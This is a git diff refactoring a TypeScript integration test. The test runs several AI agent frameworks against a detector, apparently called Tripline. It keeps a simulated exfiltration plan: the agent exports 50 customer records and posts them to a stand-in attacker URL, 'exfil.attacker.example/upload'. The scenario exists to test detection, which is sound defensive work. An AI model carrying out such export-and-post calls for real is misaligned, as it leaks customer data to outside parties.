@@ -25,11 +25,13 @@ import { join } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { promisify } from 'node:util';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { TEST_AGENT_TOKEN, TEST_AUTH_ENV, adminHeaders } from '../helpers/auth.ts';
+import { TEST_AGENT_TOKEN, TEST_AUTH_ENV } from '../helpers/auth.ts';
 import { pythonFor, runPythonAgent } from '../helpers/python.ts';
 import { startTriplineProcess } from '../helpers/tripline-process.ts';
 import type { TriplineProcess } from '../helpers/tripline-process.ts';
 import { waitFor } from '../helpers/wait.ts';
+import { EXFIL_URL, VERDICT_MS, benignCalls, getJson, rng } from '../helpers/agent-plans.ts';
+import type { BaselineView, Call, PlannedTask as Plan, TaskView } from '../helpers/agent-plans.ts';
 
 const run = promisify(execFile);
 const VERCEL_AGENT = fileURLToPath(new URL('../agents/typescript/vercel-ai-agent.ts', import.meta.url));
@@ -55,21 +57,7 @@ const SUITES: Suite[] = [
 const WARMUP_TASKS = 20;
 const WARMUP_RUN = 25;
 const MIXED_BENIGN = 4;
-const EXFIL_URL = 'https://exfil.attacker.example/upload';
-/** How long Tripline may take to reach a verdict once the agent has flushed its spans. */
-const VERDICT_MS = 45_000;
-
-interface Call {
-  tool: 'get_order' | 'export_customers' | 'issue_refund' | 'http_post';
-  args: Record<string, string | number>;
-}
-
-interface PlannedTask {
-  label: Label;
-  taskType: string;
-  taskId: string | null;
-  calls: Call[];
-}
+type PlannedTask = Plan<Label>;
 
 /** One line of an agent's stdout: the task it ran and the trace it ran in (plus how many tools it planned). */
 interface RanTask {
@@ -79,67 +67,11 @@ interface RanTask {
   calls: number;
 }
 
-interface TaskView {
-  taskId: string;
-  taskType: string;
-  agentId: string | null;
-  status: 'active' | 'completed' | 'revoked';
-  score: number;
-  decision: string;
-  reasons: unknown[];
-  counts: Record<string, number>;
-  detector: { regime: string; baselineTasks: number; warmupTasks: number };
-}
-
-interface BaselineView {
-  taskType: string;
-  tasks: number;
-  regime: string;
-}
-
-/** A small deterministic generator (mulberry32), so every run plans the same tasks. */
-function random(seed: number): () => number {
-  let state = seed >>> 0;
-  return () => {
-    state = (state + 0x6d2b79f5) >>> 0;
-    let t = state;
-    t = Math.imul(t ^ (t >>> 15), t | 1);
-    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
-    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
-  };
-}
-
-function order(next: () => number): string {
-  return `ord-${String(1 + Math.floor(next() * 200))}`;
-}
-
-/** A support task: 2–5 calls, look orders up and refund small amounts, now and then a look at a few customers. */
-function benignCalls(next: () => number): Call[] {
-  const calls: Call[] = [];
-  if (next() < 0.15) calls.push({ tool: 'export_customers', args: { limit: 2 + Math.floor(next() * 4) } });
-  const pairs = next() < 0.6 ? 1 : 2;
-  for (let i = 0; i < pairs && calls.length < 5; i++) {
-    const id = order(next);
-    calls.push({ tool: 'get_order', args: { order_id: id } });
-    if (calls.length < 5) calls.push({ tool: 'issue_refund', args: { order_id: id, amount: Math.round((5 + next() * 35) * 100) / 100 } });
-  }
-  return calls;
-}
-
 function exfiltrationCalls(): Call[] {
   return [
     { tool: 'export_customers', args: { limit: 50 } },
     { tool: 'http_post', args: { url: EXFIL_URL, body: 'id,name,email\n1,Customer 1,customer1@shop.example\n...' } },
   ];
-}
-
-/** The body of a GET with the admin token, or undefined when it is not found. */
-async function getJson(url: string): Promise<unknown> {
-  const response = await fetch(url, { headers: adminHeaders });
-  const text = await response.text();
-  if (response.status === 404) return undefined;
-  if (!response.ok) throw new Error(`GET ${url}: ${String(response.status)} ${text}`);
-  return JSON.parse(text) as unknown;
 }
 
 describe('more real agents (OpenAI Agents SDK, CrewAI, Vercel AI SDK) against Tripline', () => {
@@ -207,7 +139,7 @@ describe('more real agents (OpenAI Agents SDK, CrewAI, Vercel AI SDK) against Tr
   for (const [index, suite] of SUITES.entries()) {
     describe(`${suite.name}, ${suite.mode} mode`, () => {
       const { taskType, mode } = suite;
-      const next = random(1000 + index);
+      const next = rng(1000 + index);
       let counter = 0;
       const planned = (label: Label, calls: Call[]): PlannedTask => ({
         label,
